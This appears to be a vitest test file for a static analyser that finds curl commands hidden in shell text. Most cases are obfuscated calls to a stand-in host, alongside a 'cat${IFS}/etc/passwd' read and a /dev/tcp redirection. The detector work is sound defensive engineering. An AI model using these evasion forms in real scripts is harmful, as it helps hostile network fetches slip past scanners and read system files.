import { describe, expect, it } from 'vitest';
import { detailOf } from '../../../../src/static/evidence/from-calls.ts';
import { createShellFrontend } from '../../../../src/static/frontends/shell/frontend.ts';
import { factsOf } from '../../facts-of.ts';
import { withoutSpans } from '../shape.ts';

const { parse } = createShellFrontend();

async function commandsIn(text: string): Promise<string[]> {
  const { calls } = await factsOf(text, 'shell', 'run.sh');
  return calls.map((call) => `${call.name} ${detailOf(call)}`);
}

/** The callee and arguments of the first command, as the frontend has them. */
function firstCommand(text: string): unknown {
  const { program, problem } = parse(text, 'shell', 'run.sh');
  expect(problem).toBeNull();
  const statement = program?.body.find(({ kind }) => kind === 'expression');
  return withoutSpans(statement?.kind === 'expression' ? statement.expression : null);
}

const URL = 'https://a.drop.example';

describe('a hidden command is found, from text to facts', () => {
  it.each([
    ['quotes in a word', `c""url ${URL}`],
    ['backslashes', `c\\u\\rl ${URL}`],
    ['a continued line', `cu\\\nrl ${URL}`],
    ['a NUL character', `cu\0rl ${URL}`],
    ['escapes', `$'\\x63\\165rl' ${URL}`],
    ['braces for blanks', `{curl,${URL}}`],
    ['braces in braces', `{{curl,-s},${URL}}`],
    ['ranges', `{c..c}url ${URL}`],
    ['variables side by side', `a=c; b=url; $a$b ${URL}`],
    ['a slice', `x=curXX; y=l; \${x:0:3}$y ${URL}`],
    ['a slice from the end', `x=xxcurl; \${x: -4} ${URL}`],
    ['printf into a variable', `printf -v x cu%s rl; $x ${URL}`],
    ['indirection', `x=curl; y=x; \${!y} ${URL}`],
    ['an array by name', `declare -A m=([a]=curl); \${m[a]} ${URL}`],
    ['output', `$(echo curl) ${URL}`],
    ['backquotes', `\`echo curl\` ${URL}`],
    ['backquotes in backquotes', `\`echo \\\`echo curl\\\`\` ${URL}`],
    ['base64', `$(echo Y3VybA== | base64 -d) ${URL}`],
    ['hexadecimal', `$(echo 6375726c | xxd -r -p) ${URL}`],
    ['reversed text', `x=lruc; $(echo $x | rev) ${URL}`],
    ['eval of a variable', `x="curl ${URL}"; eval "$x"`],
    ['sh -c', `sh -c "$(echo Y3VybCBodHRwczovL2EuZHJvcC5leGFtcGxl | base64 -d)"`],
    ['bash -c', `bash -c 'curl ${URL}'`],
    ['a here-document', `sh <<E\ncurl ${URL}\nE`],
    ['a here-document with tabs', `sh <<-'E'\n\tcurl ${URL}\n\tE\n`],
    ['a here-string', `bash <<< "curl ${URL}"`],
    ['a substituted file', `bash <(curl ${URL})`],
    ['a coprocess', `coproc curl ${URL}`],
    ['Windows line breaks', `if true; then\r\ncurl ${URL}\r\nfi\r\n`],
    ['an own function of that name', `curl() { :; }; command curl ${URL}`],
    ['an arithmetic subscript', `x[$(curl ${URL})]=1`],
    ['a default', `: \${x:=$(curl ${URL})}`],
    ['a command behind damage', `echo "oops\ncurl ${URL}`],
  ])('%s', async (_, text) => {
    expect(await commandsIn(text)).toContain('curl a.drop.example');
  });
});

describe('what the facts fold is in the syntax', () => {
  const name = (text: string) => ({ kind: 'name', name: text });
  const literal = (value: unknown) => ({ kind: 'literal', value });

  it.each([
    ['cu$@rl', [literal('cu'), name('@'), literal('rl')]],
    ['cat${IFS}/etc/passwd', [literal('cat'), name('IFS'), literal('/etc/passwd')]],
    ['c${z}at', [literal('c'), name('z'), literal('at')]],
  ])('%s', (text, parts) => {
    expect(firstCommand(text)).toMatchObject({ kind: 'call', callee: { kind: 'template', parts } });
  });

  it.each([
    ['${x^^}', { callee: { property: 'upper' }, args: [] }],
    ['${x#ab}', { callee: { property: 'removeprefix' }, args: [{ value: literal('ab') }] }],
    ['${x%%ab}', { callee: { property: 'removesuffix' }, args: [{ value: literal('ab') }] }],
    ['${x: -3:2}', { kind: 'slice', start: literal(-3), stop: literal(-1) }],
    ['${x:1:-2}', { kind: 'slice', start: literal(1), stop: literal(-2) }],
    ['${!x}', { kind: 'index', object: name('<variables>'), index: name('x') }],
    ['${(U)x}', { callee: { property: 'upper' } }],
    ['${x[k]}', { kind: 'index', object: name('x'), index: literal('k') }],
  ])('%s', (text, value) => {
    expect(firstCommand(`echo ${text}`)).toMatchObject({ args: [{ value }] });
  });

  it.each([
    [`printf '%b' '\\143url'`, 'printf', ['%b', '\\143url']],
    [`tr 'a-z' 'n-za-m'`, 'tr', ['a-z', 'n-za-m']],
    [`trap 'curl x' EXIT`, 'trap', ['curl x', 'EXIT']],
    ['alias g="curl -s"', 'alias', ['g=curl -s']],
    ['source ./x.sh', 'source', ['./x.sh']],
  ])('%s', (text, command, words) => {
    const args = words.map((value) => ({ name: null, value: literal(value) }));
    expect(firstCommand(text)).toEqual({ kind: 'call', callee: name(command), args });
  });

  it('has the stream of a network redirection', () => {
    expect(firstCommand('exec 3<>/dev/tcp/192.0.2.1/80')).toMatchObject({
      callee: name('exec'),
      args: [{ name: 'fd3', value: literal('/dev/tcp/192.0.2.1/80') }],
    });
  });
});
